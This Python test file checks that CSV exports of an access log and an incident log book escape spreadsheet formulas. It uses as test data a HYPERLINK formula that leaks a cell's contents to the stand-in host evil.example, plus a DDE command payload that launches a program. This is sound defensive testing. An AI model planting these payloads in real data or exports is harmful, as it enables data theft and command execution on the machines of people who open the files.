"""CSV exports opened in a spreadsheet run no formula typed by someone else (CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from fastapi.testclient import TestClient

from csu.csv_cells import original_cell
from privacy.access_log import AccessRecord, Outcome
from tests.web.conftest import login, services_of
from tests.web.test_alarms_api import csu_alarm

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _period() -> dict[str, str]:
    now = datetime.now(UTC)
    start, end = now - timedelta(hours=1), now + timedelta(hours=1)
    return {"start": start.isoformat(), "end": end.isoformat()}


def test_access_log_csv_keeps_a_formula_username_as_text(client: TestClient) -> None:
    """A failed login's typed name that is a formula is exported with a leading quote."""
    log = services_of(client).access_log
    log.append(
        AccessRecord(
            action="auth.login",
            user=LINK,
            client="@evil",
            outcome=Outcome.DENIED,
            details={"reason": "bad credentials"},
        )
    )
    period = _period()
    answer = client.get(
        "/api/audit/export",
        params={"since": period["start"], "until": period["end"], "format": "csv"},
        headers=login(client, "privacy_officer"),
    )
    assert answer.status_code == 200, answer.text
    rows = [r for r in csv.DictReader(io.StringIO(answer.text)) if r["action"] == "auth.login"]
    failed = [r for r in rows if r["outcome"] == "denied"]
    assert [(r["user"], r["client"]) for r in failed] == [("'" + LINK, "'@evil")]
    assert original_cell(failed[0]["user"]) == LINK
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_log_book_csv_keeps_formula_notes_and_alarm_texts_as_text(client: TestClient) -> None:
    """An alarm description and an operator's note that are formulas are exported as text."""
    operator = login(client, "operator")
    formula = csu_alarm("CSV-1", description="-2+3+cmd|' /C calc'!A0", source="@source")
    alarm = client.post("/api/alarms", json=formula, headers=operator)
    assert alarm.status_code == 201, alarm.text
    incident_id = alarm.json()["alarms"][0]["incident_id"]
    noted = client.post(
        f"/api/incidents/{incident_id}/actions",
        json={"action": "note", "text": LINK},
        headers=operator,
    )
    assert noted.status_code == 200, noted.text
    answer = client.get("/api/logbook", params=_period(), headers=operator)
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    cells = [cell for r in rows for cell in r.values()]
    assert "'" + LINK in cells
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
